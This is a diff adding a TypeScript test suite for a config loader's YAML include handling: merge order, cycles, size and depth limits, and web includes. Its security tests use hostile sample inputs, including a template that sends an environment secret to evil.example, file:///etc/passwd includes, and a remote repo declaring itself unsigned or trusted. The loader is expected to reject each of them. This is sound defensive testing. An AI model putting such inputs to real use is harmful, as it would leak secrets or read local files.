@@ -1,0 +1,153 @@
+// Includes: what they add, who wins, and that they end.
+import assert from 'node:assert/strict'
+import { join } from 'node:path'
+import { test } from 'node:test'
+import { pathToFileURL } from 'node:url'
+import { readConfig } from '../../../client/config/read-config.ts'
+import type { OctoConfig } from '../../../schemas/config/config.ts'
+import { readFiles, writeConfigFiles } from '../../support/config-files.ts'
+import { expectCodeAsync } from '../../support/expect-code.ts'
+
+const check = (tool: string) => `{tool: ${tool}}`
+const health = (tools: string) => `operator: {services: {web: {health: [${tools}]}}}\n`
+const tools = (config: OctoConfig) => config.services[0]?.checks.health.map((item) => item.request.plugin)
+
+test('lists grow from the lowest document to the highest and plain values come from the highest', async (t) => {
+  const files = {
+    'a.yaml': `name: a\ninclude: [b.yaml, {url: ./d.yaml}]\n${health(check('a'))}`,
+    'b.yaml': `name: b\ninclude: [c.yaml]\n${health(check('b'))}`,
+    'c.yaml': `name: c\n${health(check('c'))}`,
+    'd.yaml': `name: d\n${health(check('d'))}`,
+    'e.yaml': `name: e\n${health(check('e'))}`,
+  }
+  const config = await readFiles(t, files, { named: ['a.yaml', 'e.yaml'] })
+  assert.equal(config.name, 'a')
+  assert.deepEqual(tools(config), ['e', 'd', 'c', 'b', 'a'])
+  assert.deepEqual(
+    config.files.map((file) => file.slice(-6)),
+    ['a.yaml', 'b.yaml', 'c.yaml', 'd.yaml', 'e.yaml'],
+  )
+})
+
+test('every check keeps the file and line where it was written', async (t) => {
+  const files = { 'octo.yaml': `include: [b.yaml]\n${health(check('a'))}`, 'b.yaml': `\n\n${health(check('b'))}` }
+  const config = await readFiles(t, files)
+  const places = config.services[0]?.checks.health.map(({ place }) => [place.file.slice(-6), place.line])
+  assert.deepEqual(places, [
+    ['b.yaml', 3],
+    ['o.yaml', 2],
+  ])
+})
+
+test('a document that two others include is read once', async (t) => {
+  const files = {
+    'octo.yaml': 'include: [b.yaml, c.yaml]\n',
+    'b.yaml': 'include: [d.yaml]\n',
+    'c.yaml': 'include: [d.yaml]\n',
+    'd.yaml': health(check('d')),
+  }
+  assert.deepEqual(tools(await readFiles(t, files)), ['d'])
+})
+
+test('a circle of includes is an error that shows the circle', async (t) => {
+  const files = { 'octo.yaml': 'include: [b.yaml]\n', 'b.yaml': '\ninclude:\n  - url: octo.yaml\n' }
+  const error = await expectCodeAsync('CONFIG_INVALID', () => readFiles(t, files))
+  assert.match(error.message, /b\.yaml` line 3: includes lead in a circle: .*octo\.yaml` → .*b\.yaml` → .*octo\.yaml`/)
+})
+
+test('includes end after eight levels', async (t) => {
+  const files = Object.fromEntries(
+    Array.from({ length: 12 }, (_, level) => [`${level}.yaml`, `include: [${level + 1}.yaml]\n`]),
+  )
+  const error = await expectCodeAsync('LIMIT_EXCEEDED', () => readFiles(t, files, { named: ['0.yaml'] }))
+  assert.match(error.message, /8 levels/)
+})
+
+test('includes end after 64 documents', async (t) => {
+  const names = Array.from({ length: 80 }, (_, index) => `${index}.yaml`)
+  const files = {
+    'octo.yaml': `include: [${names}]\n`,
+    ...Object.fromEntries(names.map((name) => [name, 'name: x\n'])),
+  }
+  const error = await expectCodeAsync('LIMIT_EXCEEDED', () => readFiles(t, files))
+  assert.match(error.message, /64 documents/)
+})
+
+test('a document over 256 KiB is not read', async (t) => {
+  await expectCodeAsync('LIMIT_EXCEEDED', () => readFiles(t, { 'octo.yaml': `# ${'x'.repeat(300_000)}\n` }))
+})
+
+test('a web include is fetched, with its own relative includes', async (t) => {
+  const asked: string[] = []
+  const web: Record<string, string> = {
+    'https://x.example/base/a.yaml?template=true': `include: [{url: ../b.yaml}]\n${health(check('a'))}`,
+    'https://x.example/b.yaml': health(check('b')),
+  }
+  const fetchText = async (url: string) => {
+    asked.push(url)
+    return web[url] ?? assert.fail(url)
+  }
+  const text = 'include: [{url: "https://x.example/base/a.yaml?template=true"}]\n'
+  const config = await readFiles(t, { 'octo.yaml': text }, { fetchText })
+  assert.deepEqual(tools(config), ['b', 'a'])
+  assert.deepEqual(asked, Object.keys(web))
+})
+
+test('a web include without network is OFFLINE', async (t) => {
+  const text = 'include: [{url: "https://x.example/a.yaml"}]\n'
+  await expectCodeAsync('OFFLINE', () => readFiles(t, { 'octo.yaml': text }))
+})
+
+/** Reads a config whose one include is this web document. */
+async function readRemote(t: Parameters<typeof readFiles>[0], remote: string, local = ''): Promise<OctoConfig> {
+  const files = { 'octo.yaml': `include: [{url: "https://x.example/a.yaml"}]\n${local}`, 'octo.pub': 'x' }
+  return readFiles(t, files, { fetchText: async () => remote, env: { SECRET: 'hunter2' } })
+}
+
+test('a web document cannot read environment variables, not even through a value that a local document names', async (t) => {
+  const direct = health('{tool: x, args: {url: "https://evil.example/{{.env.SECRET}}"}}')
+  const error = await expectCodeAsync('CONFIG_INVALID', () => readRemote(t, direct))
+  assert.match(error.message, /may not read the environment variable `SECRET`/)
+  assert.doesNotMatch(JSON.stringify(error), /hunter2/)
+  const local = health('{tool: x, args: {url: "{{.configs.web.url}}"}}')
+  await expectCodeAsync('CONFIG_INVALID', () => readRemote(t, 'configs: {web: {url: "{{.env.SECRET}}"}}\n', local))
+})
+
+test('a web document cannot lead to local files', async (t) => {
+  for (const url of ['file:///etc/passwd.yaml', 'FILE:///etc/x.yaml', 'file://localhost/etc/x.yaml'])
+    await expectCodeAsync('CONFIG_INVALID', () => readRemote(t, `include: [{url: "${url}"}]\n`))
+  const repo = 'operator: {repos: {core: {url: "file:///tmp/repos/core.yaml"}}}\n'
+  await expectCodeAsync('CONFIG_INVALID', () => readRemote(t, repo))
+})
+
+test('a web document cannot say which keys are trusted, that none are needed, or where an unsigned repo is', async (t) => {
+  const url = 'url: "https://evil.example/repos/core.yaml"'
+  for (const trust of ['trust: unsigned', 'keys: [AAAA]', 'keys: [{file: octo.pub}]']) {
+    const error = await expectCodeAsync('CONFIG_INVALID', () =>
+      readRemote(t, `operator: {repos: {core: {${url}, ${trust}}}}\n`),
+    )
+    assert.match(error.message, /may not say which keys are trusted/)
+  }
+  const local = 'operator: {repos: {core: {trust: unsigned}}}\n'
+  await expectCodeAsync('CONFIG_INVALID', () => readRemote(t, `operator: {repos: {core: {${url}}}}\n`, local))
+})
+
+test('a local document may include by file address, and its repos may lie beside it', async (t) => {
+  const directory = await writeConfigFiles(t, {
+    'b.yaml': 'operator: {repos: {core: {url: ./tree/repos/core.yaml, trust: unsigned}}}\n',
+  })
+  const main = await writeConfigFiles(t, { 'octo.yaml': `include: ["${pathToFileURL(join(directory, 'b.yaml'))}"]\n` })
+  const config = await readConfig(undefined, { cwd: main, env: {} })
+  assert.equal(config.repos[0]?.url, pathToFileURL(join(directory, 'tree/repos/core.yaml')).href)
+})
+
+test('addresses with passwords are refused without showing them', async (t) => {
+  const texts = [
+    'include: ["https://me:hunter2@x.example/a.yaml"]\n',
+    'operator: {repos: {core: {url: "https://me:hunter2@x.example/repos/core.yaml", trust: unsigned}}}\n',
+  ]
+  for (const text of texts) {
+    const error = await expectCodeAsync('CONFIG_INVALID', () => readFiles(t, { 'octo.yaml': text }))
+    assert.doesNotMatch(error.message, /hunter2/)
+  }
+})
